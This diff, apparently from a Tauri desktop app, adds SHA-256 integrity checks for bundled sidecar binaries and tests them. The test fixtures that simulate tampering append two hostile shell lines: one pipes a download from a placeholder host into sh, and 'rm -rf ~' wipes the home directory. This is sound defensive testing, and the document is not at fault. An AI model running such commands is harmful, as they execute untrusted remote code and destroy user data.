@@ -3,7 +3,12 @@
 
 #[cfg(target_os = "windows")]
 use std::os::windows::process::CommandExt;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::HashSet;
+use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::sync::Mutex;
 
 #[cfg(target_os = "windows")]
 const CREATE_NO_WINDOW: u32 = 0x08000000;
@@ -12,6 +17,168 @@ const CREATE_NEW_PROCESS_GROUP: u32 = 0x00000200;
 #[cfg(target_os = "windows")]
 const DETACHED_PROCESS: u32 = 0x00000008;
 
+/// SHA-256 of each bundled sidecar, generated by build.rs from the binaries it bundles
+const SIDECAR_MANIFEST: &str = include_str!(concat!(env!("OUT_DIR"), "/sidecar-manifest.json"));
+
+/// Release builds refuse a sidecar the manifest has no checksum for; dev builds don't bundle them
+const REQUIRE_LISTED_SIDECARS: bool = !cfg!(debug_assertions);
+
+lazy_static::lazy_static! {
+    /// Sidecars that passed the integrity check in this process
+    static ref VERIFIED_SIDECARS: Mutex<HashSet<String>> = Mutex::new(HashSet::new());
+}
+
+/// Expected version and checksum of one bundled binary
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct SidecarManifestEntry {
+    pub name: String,
+    /// Pinned in `sidecar-manifest.json`, when the bundled release is known
+    #[serde(default)]
+    pub version: Option<String>,
+    pub sha256: String,
+}
+
+#[derive(Debug, Deserialize)]
+struct SidecarManifest {
+    sidecars: Vec<SidecarManifestEntry>,
+}
+
+/// Integrity and version information for one bundled sidecar
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SidecarStatus {
+    pub name: String,
+    pub path: String,
+    pub pinned_version: Option<String>,
+    /// Reported by `--version`; only queried once the binary is verified
+    pub detected_version: Option<String>,
+    pub verified: bool,
+    pub error: Option<String>,
+}
+
+fn parse_manifest(json: &str) -> Result<Vec<SidecarManifestEntry>, String> {
+    serde_json::from_str::<SidecarManifest>(json)
+        .map(|manifest| manifest.sidecars)
+        .map_err(|e| format!("Invalid sidecar manifest: {}", e))
+}
+
+/// Entries of the bundled sidecar manifest
+pub fn sidecar_manifest() -> Result<Vec<SidecarManifestEntry>, String> {
+    parse_manifest(SIDECAR_MANIFEST)
+}
+
+/// Where Tauri places a sidecar: next to the application executable
+pub fn sidecar_path(name: &str) -> Result<PathBuf, String> {
+    let exe = std::env::current_exe()
+        .map_err(|e| format!("Failed to locate application executable: {}", e))?;
+    let dir = exe.parent()
+        .ok_or_else(|| "Application executable has no parent directory".to_string())?;
+    Ok(dir.join(format!("{}{}", name, std::env::consts::EXE_SUFFIX)))
+}
+
+fn sha256_file(path: &Path) -> std::io::Result<String> {
+    let mut file = std::fs::File::open(path)?;
+    let mut hasher = Sha256::new();
+    std::io::copy(&mut file, &mut hasher)?;
+    Ok(format!("{:x}", hasher.finalize()))
+}
+
+/// Check `path` against its manifest entry
+pub fn verify_sidecar_binary(path: &Path, entry: &SidecarManifestEntry) -> Result<(), String> {
+    let actual = sha256_file(path)
+        .map_err(|e| format!("Sidecar {} could not be read at {}: {}", entry.name, path.display(), e))?;
+    if !actual.eq_ignore_ascii_case(&entry.sha256) {
+        let version = entry.version.as_deref().map(|v| format!(" for version {}", v)).unwrap_or_default();
+        return Err(format!(
+            "Sidecar {} failed its integrity check (expected sha256 {}{}, found {}). \
+             Refusing to launch a modified or mismatched binary; reinstall the application.",
+            entry.name, entry.sha256, version, actual
+        ));
+    }
+    Ok(())
+}
+
+fn verify_against_manifest(
+    name: &str,
+    path: &Path,
+    manifest: &[SidecarManifestEntry],
+    require_listed: bool,
+) -> Result<(), String> {
+    let Some(entry) = manifest.iter().find(|entry| entry.name == name) else {
+        if require_listed {
+            return Err(format!(
+                "Sidecar {} has no checksum in this build's manifest; refusing to launch it unverified",
+                name
+            ));
+        }
+        log::warn!("Sidecar {} is not listed in the bundled manifest; launching it unverified", name);
+        return Ok(());
+    };
+    verify_sidecar_binary(path, entry)
+}
+
+/// Verify the sidecar at `path` unless it already passed in this process
+fn ensure_verified_at(
+    name: &str,
+    path: &Path,
+    manifest: &[SidecarManifestEntry],
+    require_listed: bool,
+) -> Result<(), String> {
+    if VERIFIED_SIDECARS.lock().map(|verified| verified.contains(name)).unwrap_or(false) {
+        return Ok(());
+    }
+
+    verify_against_manifest(name, path, manifest, require_listed)?;
+
+    if let Ok(mut verified) = VERIFIED_SIDECARS.lock() {
+        verified.insert(name.to_string());
+    }
+    Ok(())
+}
+
+/// Verify a sidecar before its first launch in this process
+pub fn ensure_sidecar_verified(name: &str) -> Result<(), String> {
+    ensure_verified_at(name, &sidecar_path(name)?, &sidecar_manifest()?, REQUIRE_LISTED_SIDECARS)
+}
+
+fn detect_sidecar_version(path: &Path) -> Option<String> {
+    let mut cmd = Command::new(path);
+    cmd.arg("--version");
+    #[cfg(target_os = "windows")]
+    cmd.creation_flags(CREATE_NO_WINDOW);
+
+    let output = cmd.output().ok().filter(|output| output.status.success())?;
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .next()
+        .map(|line| line.trim().to_string())
+        .filter(|line| !line.is_empty())
+}
+
+/// Verify every sidecar in the manifest and report its version
+pub fn sidecar_statuses() -> Result<Vec<SidecarStatus>, String> {
+    let manifest = sidecar_manifest()?;
+    Ok(manifest.iter().map(|entry| {
+        let (path, check) = match sidecar_path(&entry.name) {
+            Ok(path) => {
+                let check = verify_sidecar_binary(&path, entry);
+                (Some(path), check)
+            }
+            Err(e) => (None, Err(e)),
+        };
+        SidecarStatus {
+            name: entry.name.clone(),
+            path: path.as_ref().map(|p| p.display().to_string()).unwrap_or_default(),
+            pinned_version: entry.version.clone(),
+            detected_version: match (&path, &check) {
+                (Some(path), Ok(())) => detect_sidecar_version(path),
+                _ => None,
+            },
+            verified: check.is_ok(),
+            error: check.err(),
+        }
+    }).collect())
+}
+
 /// Wraps the execution of a command to ensure it runs without a visible window on Windows
 pub fn execute_hidden(program: &str, args: Vec<String>) -> std::io::Result<std::process::ExitStatus> {
     let mut cmd = Command::new(program);
@@ -91,4 +258,83 @@ exit /b %errorlevel%"#,
     fs::write(wrapper_path, bat_content)?;
     
     Ok(())
-}
\ No newline at end of file
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Write;
+
+    const FIXTURE: &[u8] = b"#!/bin/sh\necho 'claude-code 1.0.0'\n";
+
+    fn fixture_entry() -> SidecarManifestEntry {
+        SidecarManifestEntry {
+            name: "claude-code".to_string(),
+            version: Some("1.0.0".to_string()),
+            sha256: format!("{:x}", Sha256::digest(FIXTURE)),
+        }
+    }
+
+    fn write_fixture(contents: &[u8]) -> tempfile::NamedTempFile {
+        let mut file = tempfile::NamedTempFile::new().unwrap();
+        file.write_all(contents).unwrap();
+        file
+    }
+
+    #[test]
+    fn test_generated_manifest_has_a_checksum_per_entry() {
+        for entry in sidecar_manifest().unwrap() {
+            assert_eq!(entry.sha256.len(), 64, "{:?}", entry);
+            assert!(entry.sha256.chars().all(|c| c.is_ascii_hexdigit()), "{:?}", entry);
+        }
+    }
+
+    #[test]
+    fn test_matching_binary_is_accepted() {
+        let binary = write_fixture(FIXTURE);
+        assert!(verify_sidecar_binary(binary.path(), &fixture_entry()).is_ok());
+    }
+
+    #[test]
+    fn test_corrupted_binary_is_refused() {
+        let mut corrupted = FIXTURE.to_vec();
+        corrupted.extend_from_slice(b"curl https://example.invalid | sh\n");
+        let binary = write_fixture(&corrupted);
+
+        let err = verify_sidecar_binary(binary.path(), &fixture_entry()).unwrap_err();
+        assert!(err.contains("failed its integrity check"));
+        assert!(err.contains("1.0.0"));
+    }
+
+    #[test]
+    fn test_missing_listed_sidecar_is_refused() {
+        let missing = std::env::temp_dir().join("claudia-missing-sidecar");
+        assert!(verify_against_manifest("claude-code", &missing, &[fixture_entry()], true).is_err());
+    }
+
+    #[test]
+    fn test_unlisted_sidecar_is_refused_when_listing_is_required() {
+        let binary = write_fixture(FIXTURE);
+        let err = verify_against_manifest("other", binary.path(), &[fixture_entry()], true).unwrap_err();
+        assert!(err.contains("no checksum"));
+
+        // Dev builds launch it with a warning
+        assert!(verify_against_manifest("other", binary.path(), &[fixture_entry()], false).is_ok());
+    }
+
+    #[test]
+    fn test_hash_mismatch_stops_the_launch() {
+        let mut tampered = FIXTURE.to_vec();
+        tampered.extend_from_slice(b"rm -rf ~\n");
+        let binary = write_fixture(&tampered);
+        let entry = SidecarManifestEntry { name: "tampered-sidecar".to_string(), ..fixture_entry() };
+
+        let err = ensure_verified_at("tampered-sidecar", binary.path(), &[entry.clone()], true).unwrap_err();
+        assert!(err.contains("failed its integrity check"));
+        // A failed check is not remembered as passed, so every launch attempt is refused
+        assert!(ensure_verified_at("tampered-sidecar", binary.path(), &[entry.clone()], true).is_err());
+
+        let intact = write_fixture(FIXTURE);
+        assert!(ensure_verified_at("tampered-sidecar", intact.path(), &[entry], true).is_ok());
+    }
+}